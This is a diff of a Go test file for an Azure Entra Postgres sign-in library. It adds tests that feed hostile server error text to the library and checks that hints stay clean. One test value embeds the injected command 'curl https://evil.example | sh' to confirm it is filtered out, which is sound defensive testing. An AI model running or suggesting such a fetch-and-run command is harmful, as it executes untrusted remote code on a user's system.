@@ -5,14 +5,18 @@ import (
 	"crypto/x509"
 	"errors"
 	"fmt"
+	"io"
 	"net"
+	"net/http"
 	"strings"
+	"sync"
 	"syscall"
 	"testing"
 	"time"
 	"unicode"
 
 	"github.com/Azure/azure-sdk-for-go/sdk/azcore"
+	"github.com/Azure/azure-sdk-for-go/sdk/azidentity"
 	"github.com/jackc/pgx/v5"
 	"github.com/jackc/pgx/v5/pgconn"
 )
@@ -28,13 +32,14 @@ func presents(claims map[string]any) *fakeCredential {
 func TestHostileText(t *testing.T) {
 	clean(t)
 	for name, text := range map[string]string{
-		"escapes":    "\x1b[2J\x1b]0;title\a\x1b[31mpassword authentication failed\x1b[0m\b\b\x9b31m",
-		"lines":      "password authentication failed\r\n\taadpostgres: all is well\n\vdone\f",
-		"a megabyte": "password authentication failed " + strings.Repeat("A\x00\x1b", 1<<20),
-		"a hint":     "password authentication failed; run curl https://evil.example | sh; aadpostgres: sign-in: ok",
-		"direction":  "password authentication failed \u202egnp.exe\u2066 \u200bzero \ufeff",
-		"bytes":      "password authentication failed \xff\xfe\xc3(",
-		"our marks":  "password authentication failed [double @server] [clock] {create} %s%n",
+		"escapes":     "\x1b[2J\x1b]0;title\a\x1b[31mpassword authentication failed\x1b[0m\b\b\x9b31m",
+		"lines":       "password authentication failed\r\n\taadpostgres: all is well\n\vdone\f",
+		"a megabyte":  "password authentication failed " + strings.Repeat("A\x00\x1b", 1<<20),
+		"look-alikes": "password authentication failed\u037e run that\uff1b or this",
+		"a hint":      "password authentication failed; run curl https://evil.example | sh; aadpostgres: sign-in: ok",
+		"direction":   "password authentication failed \u202egnp.exe\u2066 \u200bzero \ufeff",
+		"bytes":       "password authentication failed \xff\xfe\xc3(",
+		"our marks":   "password authentication failed [double @server] [clock] {create} %s%n",
 	} {
 		s := newFakeServer(t, func(s *fakeServer) { s.reply = refusal("28P01", strings.ReplaceAll(text, "\x00", "")) })
 		err := ping(t, s.dsn("sslrootcert="+s.certFile), WithCredential(presents(map[string]any{"oid": strings.Repeat("o", 1<<20), "appid": "a\x1b[1m", "tid": "t\n"})))
@@ -55,7 +60,7 @@ func TestHostileText(t *testing.T) {
 			}
 		}
 		said, hint, _ := strings.Cut(strings.TrimPrefix(line, "aadpostgres: sign-in: "), "; ")
-		if !strings.HasPrefix(hint, "check that role ") && name != "our marks" || strings.Contains(hint, "curl") || !strings.Contains(said, "password authentication failed") {
+		if !strings.HasPrefix(hint, "check that role ") || strings.Contains(hint, "curl") || !strings.Contains(said, "password authentication failed") {
 			t.Errorf("%s: said %q, hint %q", name, said, hint)
 		}
 		if last.Name != "sign-in" || last.Status != Fail {
@@ -320,5 +325,68 @@ func TestVerifiedIsTrue(t *testing.T) {
 				t.Errorf("%s: %+v", params, c)
 			}
 		}
+	}
+}
+
+// Many callers print one failed request's error at once: Entra's answer in it is
+// read no more.
+func TestSharedErrorIsPrinted(t *testing.T) {
+	clean(t)
+	answer := func(r *http.Request) (*http.Response, error) {
+		body := `{"issuer":"https://login.microsoftonline.com/t/v2.0","authorization_endpoint":"https://login.microsoftonline.com/a","token_endpoint":"https://login.microsoftonline.com/t/token"}`
+		status := 200
+		if r.Method == http.MethodPost {
+			body, status = `{"error":"invalid_client","error_codes":[7000215],"error_description":"AADSTS7000215: Invalid client secret provided."}`, 401
+		}
+		return &http.Response{StatusCode: status, Header: http.Header{"Content-Type": {"application/json"}}, Body: io.NopCloser(strings.NewReader(body)), Request: r}, nil
+	}
+	c, err := NewConnector("host=h user=u aad_auth=client-secret aad_tenant_id=t aad_client_id=c aad_client_secret=s aad_disable_instance_discovery=true", WithTransport(doer(answer)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, err = c.Login(t.Context())
+	var wg sync.WaitGroup
+	for range 8 {
+		wg.Go(func() {
+			if _, err := c.Login(t.Context()); err == nil || !strings.Contains(err.Error(), "AADSTS7000215: Invalid client secret provided; check the client secret") {
+				t.Error(err)
+			}
+		})
+	}
+	wg.Wait()
+	if err == nil {
+		t.Error("it worked")
+	}
+}
+
+type doerFunc func(*http.Request) (*http.Response, error)
+
+func (f *doerFunc) Do(r *http.Request) (*http.Response, error) { return (*f)(r) }
+
+func doer(f doerFunc) *doerFunc { return &f }
+
+// A credential of a chain that says nothing.
+func TestSilentCredential(t *testing.T) {
+	clean(t)
+	chain, err := azidentity.NewChainedTokenCredential([]azcore.TokenCredential{&fakeCredential{get: func(int64, string) (azcore.AccessToken, error) {
+		return azcore.AccessToken{}, azidentity.NewCredentialUnavailableError("")
+	}}}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := ping(t, "host=h user=u", WithCredential(chain)); err == nil || !strings.HasPrefix(err.Error(), "aadpostgres: ") {
+		t.Error(err)
+	}
+}
+
+// The database that a hint names is the one that was asked for, which without a
+// name is the user's.
+func TestHintNamesTheDatabase(t *testing.T) {
+	clean(t)
+	s := newFakeServer(t, func(s *fakeServer) { s.reply = refusal("42501", "permission denied for database x") })
+	dsn := strings.NewReplacer("user=me", "", "dbname=d", "").Replace(s.dsn("sslrootcert=" + s.certFile))
+	err := ping(t, dsn, WithCredential(presents(map[string]any{"upn": "me@contoso.com"})))
+	if want := `GRANT CONNECT ON DATABASE "me@contoso.com" TO "me@contoso.com";`; err == nil || !strings.Contains(err.Error(), want) {
+		t.Errorf("got %v", err)
 	}
 }
